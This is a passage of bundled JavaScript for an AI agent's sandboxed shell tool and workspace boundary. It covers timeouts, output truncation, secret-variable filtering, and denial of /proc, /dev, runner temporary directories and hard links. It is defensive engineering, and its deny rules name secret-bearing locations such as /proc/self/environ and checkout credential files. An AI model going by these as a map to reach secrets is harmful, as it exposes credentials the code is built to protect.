const DEFAULT_INACTIVITY_TIMEOUT_MS = 5 * 60 * 1000;
/** No command runs longer than this in total. */
const DEFAULT_TOTAL_TIMEOUT_MS = 10 * 60 * 1000;
/** Between SIGTERM and SIGKILL when a command is stopped. */
const DEFAULT_KILL_GRACE_MS = 2000;
const parameters = schemas/* object */.Ikc({
    command: schemas/* string */.YjP().describe('Exact bash command to execute as `bash -c <command>`'),
    description: schemas/* string */.YjP()
        .describe('Brief description of the command for the user. Be specific and concise. Ideally a single sentence. Can be up to 3 sentences for clarity. No line breaks.')
        .optional(),
    directory: schemas/* string */.YjP()
        .describe('(OPTIONAL) The directory to run the command in: relative to the workspace root, or absolute. If not provided, the workspace root is used. Must be a directory within the workspace and must already exist.')
        .optional(),
});
function createRunShellCommandTool(options) {
    const { workspace } = options;
    const logger = options.logger ?? platform_logger/* silentLogger */.qq;
    const envAllow = options.envAllow ?? [];
    const { refused } = (0,tool_environment/* checkToolEnvironmentAllowList */.P)(envAllow);
    for (const name of refused) {
        logger.warning(`${name} is allowed for tool processes but looks like a secret, so it is never passed to them.`);
    }
    const inactivityTimeoutMs = options.inactivityTimeoutMs ?? DEFAULT_INACTIVITY_TIMEOUT_MS;
    const totalTimeoutMs = options.totalTimeoutMs ?? DEFAULT_TOTAL_TIMEOUT_MS;
    const killGraceMs = options.killGraceMs ?? DEFAULT_KILL_GRACE_MS;
    const tracker = new process_group/* ProcessGroupTracker */.nc({ graceMs: killGraceMs });
    const ownsProcesses = options.processes === undefined;
    const processes = options.processes ??
        new tool_processes/* ToolProcesses */._({
            workspaceRoot: workspace.root,
            parentEnv: options.parentEnv ?? process.env,
            envAllow,
            ...(options.sandbox === undefined ? {} : { sandbox: options.sandbox }),
            ...(options.isolateNetwork === undefined ? {} : { isolateNetwork: options.isolateNetwork }),
        });
    const confined = processes.confined;
    const tool = (0,define_tool/* defineTool */.u)({
        name: RUN_SHELL_COMMAND_TOOL_NAME,
        displayName: 'Shell',
        description: toolDescription({ inactivityTimeoutMs, totalTimeoutMs, confined }),
        kind: 'execute',
        parameters,
        parameterAliases: parameter_aliases/* PARAMETER_ALIASES */.j.run_shell_command,
        validate(params) {
            if (params.command.trim() === '') {
                return { message: 'Command cannot be empty.', type: 'invalid_tool_params' };
            }
            if (params.command.includes('\0')) {
                // No program can receive a NUL byte in its arguments.
                return { message: 'Command cannot contain NUL characters.', type: 'invalid_tool_params' };
            }
            const directory = resolveDirectory(workspace, params.directory);
            return directory.ok ? null : directory.error;
        },
        invocation(params) {
            const directory = resolveDirectory(workspace, params.directory);
            const cwd = directory.ok ? directory.absolutePath : workspace.root;
            const shownDirectory = directory.ok ? directory.shown : (params.directory ?? '(root)');
            const description = shownDirectory === '(root)'
                ? `Run: ${params.command}`
                : `Run: ${params.command} in ${shownDirectory}`;
            return {
                describe: () => description,
                locations: () => [directory.ok ? directory.relativePath : (params.directory ?? '.')],
                confirmationDetails: () => Promise.resolve({
                    type: 'exec',
                    title: 'Confirm Shell Command',
                    command: params.command,
                    rootCommand: shellRootCommands(params.command).join(', '),
                    workingDirectory: cwd,
                }),
                execute: async (signal, onOutput) => {
                    if (signal.aborted) {
                        return {
                            llmContent: 'Command was cancelled by user before it could start.',
                            returnDisplay: 'Command cancelled by user.',
                        };
                    }
                    // Checked again: the directory may have changed since the call was validated.
                    const current = resolveDirectory(workspace, params.directory);
                    if (!current.ok) {
                        return {
                            llmContent: current.error.message,
                            returnDisplay: current.error.message,
                            error: current.error,
                        };
                    }
                    let opened;
                    try {
                        opened = await processes.session();
                    }
                    catch (error) {
                        const message = `The sandbox for shell commands could not be set up, so the command did not run: ${(0,errors/* errorMessage */.gJ)(error)}`;
                        logger.warning(message);
                        return {
                            llmContent: message,
                            returnDisplay: message,
                            error: { message, type: 'shell_execute_error' },
                        };
                    }
                    const output = new shell_output/* ShellOutput */.qK({ maxChars: options.maxOutputChars });
                    const result = await executeShellCommand({
                        command: params.command,
                        cwd: current.absolutePath,
                        env: processes.environment(),
                        output,
                        signal,
                        inactivityTimeoutMs,
                        totalTimeoutMs,
                        killGraceMs,
                        tracker,
                        logger,
                        ...(onOutput ? { onOutput: liveReporter(output, onOutput) } : {}),
                        ...(options.shell === undefined ? {} : { shell: options.shell }),
                        ...(opened ? { sandbox: opened } : {}),
                    });
                    if (opened && result.backgroundPids.length > 0) {
                        // The model can only act on the PIDs its own commands see.
                        const session = opened;
                        result.backgroundPids = await Promise.all(result.backgroundPids.map((pid) => session.pidInSandbox(pid)));
                    }
                    return formatResult({
                        command: params.command,
                        directory: current.shown,
                        output: output.text(),
                        result,
                        inactivityTimeoutMs,
                        totalTimeoutMs,
                    });
                },
            };
        },
    });
    return {
        ...tool,
        dispose: async () => {
            await tracker.killAll();
            // Ends whatever is still running in the sandbox and gives the workspace back.
            if (ownsProcesses)
                await processes.close();
        },
    };
}
/** Reports the output so far whenever it changed (a chunk of escape codes changes nothing). */
function liveReporter(output, onOutput) {
    let last = '';
    return () => {
        const text = output.liveText();
        if (text === last)
            return;
        last = text;
        onOutput(text);
    };
}
function resolveDirectory(workspace, directory) {
    if (directory === undefined || directory === '') {
        return { ok: true, absolutePath: workspace.root, relativePath: '.', shown: '(root)' };
    }
    const resolved = workspace.resolve(directory, { purpose: 'read' });
    if (!resolved.ok)
        return resolved;
    let isDirectory;
    try {
        isDirectory = (0,external_node_fs_.statSync)(resolved.absolutePath).isDirectory();
    }
    catch {
        return {
            ok: false,
            error: {
                message: `Directory does not exist: ${resolved.absolutePath}. The directory must already exist within the workspace.`,
                type: 'invalid_tool_params',
            },
        };
    }
    if (!isDirectory) {
        return {
            ok: false,
            error: {
                message: `Path is not a directory: ${resolved.absolutePath}`,
                type: 'invalid_tool_params',
            },
        };
    }
    const shown = workspace.displayPath(resolved.absolutePath);
    return {
        ok: true,
        absolutePath: resolved.absolutePath,
        relativePath: resolved.relativePath === '' ? '.' : resolved.relativePath,
        shown: shown === '.' ? '(root)' : shown,
    };
}
/**
 * The first word of each sub-command (`npm test && git status | head` → npm, git, head), for the
 * confirmation a human would have seen. A rough split: the policy engine parses commands properly.
 */
function shellRootCommands(command) {
    const roots = [];
    for (const segment of command.split(/&&|\|\||[;|&\n]/)) {
        const words = segment
            .trim()
            .replace(/^[({!\s]+/, '')
            .split(/\s+/);
        // Leading assignments (`FOO=1 npm test`) are not the command.
        const root = words.find((word) => word !== '' && !/^[A-Za-z_][A-Za-z0-9_]*=/.test(word));
        if (root !== undefined && !roots.includes(root))
            roots.push(root);
    }
    return roots;
}
/** `5.0 minutes` as the Gemini CLI says it; shorter limits in seconds. */
function formatDuration(ms) {
    if (ms >= 60_000)
        return `${(ms / 60_000).toFixed(1)} minutes`;
    const seconds = ms / 1000;
    return `${seconds} ${seconds === 1 ? 'second' : 'seconds'}`;
}
/** The plain outcome of a `run_shell_command` result, or undefined for any other result. */
function shellRunOf(result) {
    const data = result.data;
    if (data === undefined || typeof data.output !== 'string')
        return undefined;
    const exitCode = typeof data.exitCode === 'number' ? data.exitCode : null;
    const signal = typeof data.signal === 'string' ? data.signal : null;
    const stopped = data.stopped;
    return {
        output: data.output,
        exitCode,
        signal,
        ...(stopped === 'inactivity' || stopped === 'total' || stopped === 'aborted'
            ? { stopped }
            : {}),
    };
}
function formatResult(input) {
    const plain = shellRunData(input);
    return { ...modelResult(input), data: plain };
}
function shellRunData({ result, output }) {
    return {
        output,
        exitCode: result.exitCode,
        signal: result.signal,
        ...(result.stopped === undefined ? {} : { stopped: result.stopped }),
    };
}
function modelResult(input) {
    const { result, output } = input;
    if (result.stopped !== undefined) {
        let reason;
        if (result.stopped === 'inactivity') {
            reason = `Command was automatically cancelled because it exceeded the timeout of ${formatDuration(input.inactivityTimeoutMs)} without output.`;
        }
        else if (result.stopped === 'total') {
            reason = `Command was automatically cancelled because it exceeded the total time limit of ${formatDuration(input.totalTimeoutMs)}.`;
        }
        else {
            reason = 'Command was cancelled by user before it could complete.';
        }
        const llmContent = output
            ? `${reason} Below is the output before it was cancelled:\n${output}`
            : `${reason} There was no output before it was cancelled.`;
        const display = result.stopped === 'aborted' ? 'Command cancelled by user.' : reason;
        return {
            llmContent,
            returnDisplay: output ? `${display}\n\nOutput before cancellation:\n${output}` : display,
        };
    }
    const signalNumber = result.signal === null ? null : signalToNumber(result.signal);
    const llmContent = [
        `Command: ${input.command}`,
        `Directory: ${input.directory}`,
        `Output: ${output || '(empty)'}`,
        `Error: ${result.error ? result.error.message : '(none)'}`,
        `Exit Code: ${result.exitCode ?? '(none)'}`,
        `Signal: ${signalNumber ?? '(none)'}`,
        `Background PIDs: ${result.backgroundPids.length > 0 ? result.backgroundPids.join(', ') : '(none)'}`,
        `Process Group PGID: ${result.pgid ?? '(none)'}`,
    ].join('\n');
    let returnDisplay = output;
    if (output === '') {
        if (signalNumber !== null)
            returnDisplay = `Command terminated by signal: ${signalNumber}`;
        else if (result.error)
            returnDisplay = `Command failed: ${result.error.message}`;
        else if (result.exitCode !== null && result.exitCode !== 0) {
            returnDisplay = `Command exited with code: ${result.exitCode}`;
        }
    }
    if (result.error) {
        // The model reads only the error message of a failed call, so it carries the whole report.
        return {
            llmContent,
            returnDisplay,
            error: { message: llmContent, type: 'shell_execute_error' },
        };
    }
    return { llmContent, returnDisplay };
}
/** Signals are reported by number, as the Gemini CLI does (`Signal: 15` for SIGTERM). */
function signalToNumber(signal) {
    const numbers = external_node_os_.constants.signals;
    return numbers[signal] ?? signal;
}
function toolDescription(limits) {
    const stops = [];
    if (limits.inactivityTimeoutMs > 0) {
        stops.push(`prints nothing for ${formatDuration(limits.inactivityTimeoutMs)}`);
    }
    if (limits.totalTimeoutMs > 0) {
        stops.push(`runs longer than ${formatDuration(limits.totalTimeoutMs)} in total`);
    }
    const sandboxed = limits.confined
        ? ' Commands run in a sandbox: only the workspace is writable (not its .git), the home and temporary directories are private and start empty, and sudo is not available. Stop background processes by the PIDs reported; the process group ID is not usable inside the sandbox.'
        : '';
    const timeouts = stops.length > 0
        ? ` A command that ${stops.join(' or ')} is stopped together with its whole process group.`
        : '';
    return `This tool executes a given shell command as \`bash -c <command>\`. Command can start background processes using \`&\`. Command is executed as a subprocess that leads its own process group. Command process group can be terminated as \`kill -- -PGID\` or signaled as \`kill -s SIGNAL -- -PGID\`.

Standard input is closed, so a command waiting for input gets end-of-file at once: use non-interactive flags (e.g. \`--yes\`, \`-y\`). Pagers are disabled.${timeouts} Background processes keep running until the session ends.${sandboxed}

The following information is returned:

Command: Executed command.
Directory: Directory where command was executed, or \`(root)\`.
Output: Combined stdout and stderr, in the order they were written. Can be \`(empty)\` or partial on error and for any unwaited background processes. Long output keeps its first and last part.
Error: Error or \`(none)\` if no error was reported for the subprocess.
Exit Code: Exit code or \`(none)\` if terminated by signal.
Signal: Signal number or \`(none)\` if no signal was received.
Background PIDs: List of background processes started or \`(none)\`.
Process Group PGID: Process group started or \`(none)\``;
}


/***/ }),

/***/ 63819:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   ZR: () => (/* binding */ DEFAULT_MAX_OUTPUT_CHARS),
/* harmony export */   it: () => (/* binding */ cutMiddle),
/* harmony export */   qK: () => (/* binding */ ShellOutput)
/* harmony export */ });
/* unused harmony exports omissionMarker, AnsiStripper, stripAnsi, formatBytes */
/* harmony import */ var node_util__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(57975);
/* harmony import */ var node_util__WEBPACK_IMPORTED_MODULE_0___default = /*#__PURE__*/__webpack_require__.n(node_util__WEBPACK_IMPORTED_MODULE_0__);
/**
 * The output of a shell command as the model reads it: decoded as UTF-8, terminal escape codes
 * removed, binary output summarised rather than shown, and long output cut in the middle.
 *
 * Memory stays bounded whatever the command prints: only the first 20% and the last 80% of the
 * character budget are kept (a head that fills once and a rolling tail), plus a count of what
 * fell in between.
 */

/** Output longer than this keeps its first 20% and last 80% (the Gemini CLI's default). */
const DEFAULT_MAX_OUTPUT_CHARS = 40_000;
const HEAD_FRACTION = 0.2;
/** A NUL byte this early in the output means the command printed binary data. */
const BINARY_SNIFF_BYTES = 4096;
/** The text between the kept head and tail of a cut output, saying how much was left out. */
function omissionMarker(omittedChars) {
    return `\n\n... [${omittedChars.toLocaleString('en-US')} characters omitted] ...\n\n`;
}
/**
 * Text over `max` characters keeps its first 20% and last 80% around the omission marker (the end
 * of an output usually says how things ended): for whole texts, where `ShellOutput` handles a
 * stream.
 */
function cutMiddle(text, max = DEFAULT_MAX_OUTPUT_CHARS) {
    if (text.length <= max)
        return text;
    const head = Math.floor(max * HEAD_FRACTION);
    const tail = max - head;
    return `${text.slice(0, head)}${omissionMarker(text.length - head - tail)}${text.slice(-tail)}`;
}
/** An unfinished escape sequence longer than this is not one; it is shown as it is. */
const MAX_ESCAPE_LENGTH = 4096;
/**
 * Escape sequences a terminal interprets rather than shows: OSC (window titles, hyperlinks),
 * CSI (colours, cursor movement, erasing), and the short ESC sequences (charset selection,
 * keypad modes, save/restore cursor).
 */
const ESCAPE_SEQUENCE = 
// eslint-disable-next-line no-control-regex
/\x1b\][^\x07\x1b]*(?:\x07|\x1b\\)|(?:\x1b\[|\x9b)[0-?]*[ -/]*[@-~]|\x1b[ -/]*[0-~]/g;
/** The start of an escape sequence whose end has not arrived yet. */
// eslint-disable-next-line no-control-regex
const UNFINISHED_ESCAPE = /^(?:\x1b\][^\x07\x1b]*\x1b?|(?:\x1b\[|\x9b)[0-?]*[ -/]*|\x1b[ -/]*)$/;
/** Removes escape sequences from text that arrives in pieces, which may split a sequence. */
class AnsiStripper {
    carry = '';
    push(text) {
        let combined = this.carry + text;
        this.carry = '';
        const start = unfinishedEscapeStart(combined);
        if (start !== -1) {
            this.carry = combined.slice(start);
            combined = combined.slice(0, start);
        }
        return stripAnsi(combined);
    }
    /** What is held back at the end: an escape sequence that never finished is shown as is. */
    flush() {
        const rest = this.carry;
        this.carry = '';
        return rest;
    }
}
/**
 * Where an escape sequence starts that the text ends in the middle of, or -1. The last escape
 * character may itself be the first half of an OSC terminator (`ESC \\`), so the one before it
 * is tried first.
 */
function unfinishedEscapeStart(text) {
    const last = lastEscape(text, text.length - 1);
    if (last === -1)
        return -1;
    const previous = lastEscape(text, last - 1);
    for (const start of [previous, last]) {
        if (start === -1 || text.length - start > MAX_ESCAPE_LENGTH)
            continue;
        if (UNFINISHED_ESCAPE.test(text.slice(start)))
            return start;
    }
    return -1;
}
function lastEscape(text, from) {
    if (from < 0)
        return -1;
    return Math.max(text.lastIndexOf('\x1b', from), text.lastIndexOf('\x9b', from));
}
function stripAnsi(text) {
    if (!text.includes('\x1b') && !text.includes('\x9b'))
        return text;
    return text.replace(ESCAPE_SEQUENCE, '');
}
/** `512 B`, `1.5 KB`, `52.0 MB`. */
function formatBytes(bytes) {
    if (bytes < 1024)
        return `${bytes} B`;
    if (bytes < 1024 * 1024)
        return `${(bytes / 1024).toFixed(1)} KB`;
    return `${(bytes / (1024 * 1024)).toFixed(1)} MB`;
}
/** Collects a command's output as it arrives, in arrival order. */
class ShellOutput {
    headLimit;
    tailLimit;
    decoders = new Map();
    strippers = new Map();
    head = '';
    tail = '';
    totalChars = 0;
    totalBytes = 0;
    binary = false;
    constructor(options = {}) {
        const maxChars = Math.max(1, Math.floor(options.maxChars ?? DEFAULT_MAX_OUTPUT_CHARS));
        this.headLimit = Math.floor(maxChars * HEAD_FRACTION);
        this.tailLimit = maxChars - this.headLimit;
    }
    /** True once the output turned out to be binary; later bytes are only counted. */
    get isBinary() {
        return this.binary;
    }
    push(chunk, stream = 'stdout') {
        const before = this.totalBytes;
        this.totalBytes += chunk.length;
        if (this.binary)
            return;
        if (before < BINARY_SNIFF_BYTES && chunk.subarray(0, BINARY_SNIFF_BYTES - before).includes(0)) {
            this.binary = true;
            return;
        }
        this.append(this.stripper(stream).push(this.decoder(stream).decode(chunk, { stream: true })));
    }
    /** Call once the streams have ended: flushes partial characters and unfinished escapes. */
    finish() {
        if (this.binary)
            return;
        for (const stream of ['stdout', 'stderr']) {
            const decoder = this.decoders.get(stream);
            if (!decoder)
                continue;
            const stripper = this.stripper(stream);
            this.append(stripper.push(decoder.decode()) + stripper.flush());
        }
    }
    /** The output for the model: trimmed, cut in the middle when long; `''` when there is none. */
    text() {
        const full = this.totalChars <= this.headLimit + this.tailLimit;
        let text;
        if (full) {
            text = (this.head + this.tail).trim();
        }
        else {
            const omitted = this.totalChars - this.head.length - this.tail.length;
            text = `${this.head.trimStart()}${omissionMarker(omitted)}${this.tail.trimEnd()}`;
        }
        if (!this.binary)
            return text;
        const summary = `[Binary output detected: ${formatBytes(this.totalBytes)} received, not shown.]`;
        return text === '' ? summary : `${text}\n${summary}`;
    }
    /** What a watching human sees while the command runs. */
    liveText() {
        if (!this.binary)
            return this.text();
        return `[Receiving binary output... ${formatBytes(this.totalBytes)} received]`;
    }
    append(text) {
        if (text === '')
            return;
        this.totalChars += text.length;
        let rest = text;
        if (this.head.length < this.headLimit) {
            const room = this.headLimit - this.head.length;
            this.head += rest.slice(0, room);
            rest = rest.slice(room);
        }
        if (rest === '')
            return;
        let tail = this.tail + rest;
        if (tail.length > this.tailLimit) {
            tail = tail.slice(tail.length - this.tailLimit);
            // Never start with the second half of a surrogate pair.
            const first = tail.charCodeAt(0);
            if (first >= 0xdc00 && first <= 0xdfff) {
                tail = tail.slice(1);
            }
        }
        this.tail = tail;
    }
    decoder(stream) {
        let decoder = this.decoders.get(stream);
        if (!decoder) {
            decoder = new node_util__WEBPACK_IMPORTED_MODULE_0__.TextDecoder('utf-8');
            this.decoders.set(stream, decoder);
        }
        return decoder;
    }
    stripper(stream) {
        let stripper = this.strippers.get(stream);
        if (!stripper) {
            stripper = new AnsiStripper();
            this.strippers.set(stream, stripper);
        }
        return stripper;
    }
}


/***/ }),

/***/ 90161:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   _: () => (/* binding */ ToolProcesses)
/* harmony export */ });
/* harmony import */ var _platform_tool_environment_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(4861);

class ToolProcesses {
    workspaceRoot;
    /** Whether processes run confined (a sandbox other than `none`). */
    confined;
    options;
    opened;
    closed = false;
    constructor(options) {
        this.options = options;
        this.workspaceRoot = options.workspaceRoot;
        this.confined = options.sandbox !== undefined && options.sandbox.kind !== 'none';
    }
    /**
     * The environment a tool process starts with: the allow-listed part of the run's environment,
     * the fixed tool variables, then `extra` (an MCP server's configured `env`, which the
     * maintainer chose to give it).
     */
    environment(extra = {}) {
        const env = (0,_platform_tool_environment_js__WEBPACK_IMPORTED_MODULE_0__/* .buildToolEnvironment */ .iT)(this.options.parentEnv, {
            allow: this.options.envAllow ?? [],
        });
        return { ...env, ...extra };
    }
    /**
     * The sandbox session, opened on first use; undefined when there is no sandbox. Rejects when
     * the sandbox cannot be set up (the caller reports that instead of running unconfined) or
     * after `close()`.
     */
    session() {
        const { sandbox } = this.options;
        if (sandbox === undefined)
            return undefined;
        if (this.closed)
            return Promise.reject(new Error('The session has ended; no more processes.'));
        this.opened ??= sandbox.open({
            workspaceRoot: this.workspaceRoot,
            isolateNetwork: this.options.isolateNetwork ?? false,
            commandEnv: this.environment(),
        });
        return this.opened;
    }
    /** The program to spawn for `command`: wrapped by the sandbox when there is one. */
    async prepare(command) {
        const session = this.session();
        return session === undefined ? command : (await session).wrap(command);
    }
    /**
     * Ends whatever still runs in the sandbox and gives the workspace back. Called once, after
     * every tool has been disposed (so MCP servers get to shut down cleanly first).
     */
    async close() {
        this.closed = true;
        const opened = await this.opened?.catch(() => undefined);
        await opened?.close();
    }
}


/***/ }),

/***/ 87146:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   GB: () => (/* binding */ isToolSelected),
/* harmony export */   HT: () => (/* binding */ toolNameOf),
/* harmony export */   zj: () => (/* binding */ toolArgumentOf)
/* harmony export */ });
/** `run_shell_command(git status)` → `run_shell_command`. */
function toolNameOf(entry) {
    const open = entry.indexOf('(');
    return (open < 0 ? entry : entry.slice(0, open)).trim();
}
/** The arguments of an entry (`git status` for `run_shell_command(git status)`), if any. */
function toolArgumentOf(entry) {
    const match = /^[^(]*\((.*)\)\s*$/s.exec(entry);
    const inside = match?.[1]?.trim();
    return inside === undefined || inside === '' ? undefined : inside;
}
/**
 * Whether a tool is offered. `builtin` says whether it is one of the built-in tools, which
 * `tools.core` restricts (extension tools are chosen by their own settings).
 */
function isToolSelected(tool, settings) {
    const excluded = (settings.excludeTools ?? [])
        .filter((entry) => toolArgumentOf(entry) === undefined)
        .map(toolNameOf);
    if (excluded.includes(tool.name))
        return false;
    if (!tool.builtin || settings.coreTools === undefined)
        return true;
    return settings.coreTools.map(toolNameOf).includes(tool.name);
}


/***/ }),

/***/ 29285:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   LC: () => (/* binding */ ToolErrorType),
/* harmony export */   RS: () => (/* binding */ isReadOnlyTool),
/* harmony export */   Zm: () => (/* binding */ isTodoList),
/* harmony export */   d1: () => (/* binding */ isBuildError)
/* harmony export */ });
/* unused harmony exports READ_ONLY_KINDS, isFileDiff */
/** Kinds that only observe: calls of these kinds in one turn run in parallel. */
const READ_ONLY_KINDS = new Set(['read', 'search', 'fetch', 'think']);
/**
 * Whether a call of the tool only observes, so it may run beside other such calls: a read-only
 * kind, or a tool that says so itself (a subagent whose own tools are all read-only).
 */
function isReadOnlyTool(tool) {
    return READ_ONLY_KINDS.has(tool.kind) || tool.readOnly === true;
}
/** The Gemini CLI's `ToolErrorType` values; the model and transcripts see these strings. */
const ToolErrorType = {
    POLICY_VIOLATION: 'policy_violation',
    INVALID_TOOL_PARAMS: 'invalid_tool_params',
    TOOL_NOT_REGISTERED: 'tool_not_registered',
    EXECUTION_FAILED: 'execution_failed',
    CANCELLED: 'cancelled',
    FILE_NOT_FOUND: 'file_not_found',
    FILE_WRITE_FAILURE: 'file_write_failure',
    READ_CONTENT_FAILURE: 'read_content_failure',
    FILE_TOO_LARGE: 'file_too_large',
    PERMISSION_DENIED: 'permission_denied',
    NO_SPACE_LEFT: 'no_space_left',
    TARGET_IS_DIRECTORY: 'target_is_directory',
    PATH_NOT_IN_WORKSPACE: 'path_not_in_workspace',
    SEARCH_PATH_NOT_FOUND: 'search_path_not_found',
    SEARCH_PATH_NOT_A_DIRECTORY: 'search_path_not_a_directory',
    EDIT_PREPARATION_FAILURE: 'edit_preparation_failure',
    EDIT_NO_OCCURRENCE_FOUND: 'edit_no_occurrence_found',
    EDIT_EXPECTED_OCCURRENCE_MISMATCH: 'edit_expected_occurrence_mismatch',
    EDIT_NO_CHANGE: 'edit_no_change',
    ATTEMPT_TO_CREATE_EXISTING_FILE: 'attempt_to_create_existing_file',
    GLOB_EXECUTION_ERROR: 'glob_execution_error',
    GREP_EXECUTION_ERROR: 'grep_execution_error',
    LS_EXECUTION_ERROR: 'ls_execution_error',
    PATH_IS_NOT_A_DIRECTORY: 'path_is_not_a_directory',
    MCP_TOOL_ERROR: 'mcp_tool_error',
    SHELL_EXECUTE_ERROR: 'shell_execute_error',
    DISCOVERED_TOOL_EXECUTION_ERROR: 'discovered_tool_execution_error',
    WEB_FETCH_NO_URL_IN_PROMPT: 'web_fetch_no_url_in_prompt',
    WEB_FETCH_FALLBACK_FAILED: 'web_fetch_fallback_failed',
    WEB_FETCH_PROCESSING_ERROR: 'web_fetch_processing_error',
    WEB_SEARCH_FAILED: 'web_search_failed',
    MEMORY_TOOL_EXECUTION_ERROR: 'memory_tool_execution_error',
};
function isFileDiff(display) {
    return typeof display === 'object' && 'fileDiff' in display;
}
function isTodoList(display) {
    return typeof display === 'object' && 'todos' in display;
}
function isBuildError(built) {
    return 'error' in built;
}


/***/ }),

/***/ 67692:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {


// EXPORTS
__webpack_require__.d(__webpack_exports__, {
  a: () => (/* binding */ Workspace),
  T: () => (/* reexport */ deniedPathsFromEnvironment)
});

// EXTERNAL MODULE: external "node:fs"
var external_node_fs_ = __webpack_require__(73024);
// EXTERNAL MODULE: external "node:fs/promises"
var promises_ = __webpack_require__(51455);
// EXTERNAL MODULE: external "node:path"
var external_node_path_ = __webpack_require__(76760);
var external_node_path_default = /*#__PURE__*/__webpack_require__.n(external_node_path_);
// EXTERNAL MODULE: ./src/platform/errors.ts
var errors = __webpack_require__(46316);
// EXTERNAL MODULE: ./src/tools/path-spelling.ts
var path_spelling = __webpack_require__(11023);
;// CONCATENATED MODULE: ./src/tools/boundary-messages.ts
/**
 * The refusals the workspace boundary gives. Every one starts like the Gemini CLI's
 * "Path not in workspace" message, so the model recognises them, and then says why.
 */

function refusalMessage(attempted, reason) {
    return `Path not in workspace: Attempted path "${(0,path_spelling/* quotePath */.WG)(attempted)}" ${reason}`;
}
const REFUSAL_REASONS = {
    nulByte: 'is not a valid path: it contains a NUL byte.',
    tooLong: 'is too long: the file system allows at most 4095 bytes in a path and 255 bytes in each name.',
    /**
     * Another name of the same file may lie anywhere on the same file system, outside the
     * workspace included, and nothing tells where: writing would change that file too, and reading
     * would show it. Refused for reads as well, because a link planted by one allowed command
     * (`ln`, `cp -l`) must not turn `read_file` into a reader of any file the runner can see.
     * Legitimate multi-name files in a checkout live in package-manager stores and git object
     * stores, which are ignored directories `read_file` refuses anyway, so the cost is small.
     */
    hardLink: 'is a file with more than one name (a hard link), so it may also lie outside the workspace; tools may not use it.',
    specialFile: 'is a FIFO, socket or device, which tools may not write to.',
    gitDirectory: 'is inside a .git directory, which tools may not write to.',
    changed: 'changed while it was being opened (a file or directory on the way was replaced), so it was not used.',
};

;// CONCATENATED MODULE: ./src/tools/real-path.ts



/** Following more symlinks than this in one path means a loop (Linux gives up at 40 too). */
const MAX_SYMLINK_HOPS = 40;
/** The path, or one of its names, is longer than the file system allows. */
class PathTooLongError extends Error {
    name = 'PathTooLongError';
}
/** The path holds a symlink loop. */
class SymlinkLoopError extends Error {
    name = 'SymlinkLoopError';
}
function errorCode(error) {
    return error?.code;
}
/**
 * Resolves `absolute` component by component, applying `..` to the real directory reached so far
 * (as the kernel does, so `link/..` is the parent of the link's target, not of the link).
 * Throws `PathTooLongError`, `SymlinkLoopError`, or the file system's error for anything else
 * that stops the walk (such as a directory it may not search).
 */
function resolveRealPath(absolute) {
    const { root } = external_node_path_default().parse(absolute);
    const pending = splitComponents(absolute.slice(root.length));
    const visited = [];
    let current = root;
    let hops = 0;
    for (let part = pending.shift(); part !== undefined; part = pending.shift()) {
        if (part === '.')
            continue;
        if (part === '..') {
            current = external_node_path_default().dirname(current);
            continue;
        }
        const next = external_node_path_default().join(current, part);
        visited.push(next);
        const stats = lstatOrNull(next);
        if (!stats?.isSymbolicLink()) {
            current = next;
            continue;
        }
        hops += 1;
        if (hops > MAX_SYMLINK_HOPS)
            throw new SymlinkLoopError(`Too many levels of symbolic links`);
        const target = (0,external_node_fs_.readlinkSync)(next);
        const targetRoot = external_node_path_default().parse(target).root;
        if (targetRoot !== '')
            current = targetRoot;
        pending.unshift(...splitComponents(target.slice(targetRoot.length)));
    }
    return { realPath: current, stats: lstatOrNull(current), visited };
}
function lstatOrNull(file) {
    try {
        return (0,external_node_fs_.lstatSync)(file);
    }
    catch (error) {
        if ((0,errors/* isMissingPathError */.Sr)(error))
            return null;
        if (errorCode(error) === 'ENAMETOOLONG')
            throw new PathTooLongError('File name too long');
        throw error;
    }
}
function splitComponents(relative) {
    return relative.split(/[\\/]+/u).filter((part) => part !== '');
}
/** FIFOs, sockets and devices: reading one may block forever or never end, writing one acts. */
function isSpecialFile(stats) {
    return stats.isFIFO() || stats.isSocket() || stats.isCharacterDevice() || stats.isBlockDevice();
}

// EXTERNAL MODULE: ./src/platform/runner-file-commands.ts
var runner_file_commands = __webpack_require__(32183);
;// CONCATENATED MODULE: ./src/tools/denied-paths.ts
/**
 * Places tools may never use, even when a workspace root contains them (a root at `/`, or an
 * additional root such as the runner's work directory).
 */




/**
 * Kernel and device interfaces: `/proc/self/environ` holds the process's secrets, `/proc/<pid>/`
 * other processes' memory and file descriptors, `/dev` devices that block or never end.
 * Always denied (on systems that have them), whatever the options say.
 */
const SYSTEM_DENIED_PATHS = process.platform === 'win32'
    ? []
    : [
        { path: '/proc', reason: 'process information' },
        { path: '/sys', reason: 'kernel interfaces' },
        { path: '/dev', reason: 'devices' },
    ];
/** The directory the runner creates the file-command files in. */
const FILE_COMMANDS_DIRECTORY = '_runner_file_commands';
/**
 * The runner's places a tool must not reach, read from the environment the Action runs in:
 * `RUNNER_TEMP` (checkout's credential files, other actions' scratch data), each file-command
 * file and the runner's directory holding them, and `GITHUB_EVENT_PATH` (the raw event; the agent
 * gets a sanitized copy of it elsewhere). Unset variables add nothing.
 */
function deniedPathsFromEnvironment(env) {
    const denied = [];
    const add = (value, reason) => {
        if (value === undefined || value.trim() === '')
            return;
        const absolute = external_node_path_default().resolve(value);
        if (!denied.some((entry) => entry.path === absolute))
            denied.push({ path: absolute, reason });
    };
    add(env.RUNNER_TEMP, "the runner's temporary directory (RUNNER_TEMP)");
    for (const name of runner_file_commands/* FILE_COMMAND_VARIABLES */.X) {
        const file = env[name];
        add(file, `a runner file command (${name})`);
        // Only the runner's own directory: a variable pointing somewhere unusual (set by hand for a
        // local run) must not deny whatever directory happens to hold it, such as the workspace.
        if (file !== undefined && external_node_path_default().basename(external_node_path_default().dirname(file)) === FILE_COMMANDS_DIRECTORY) {
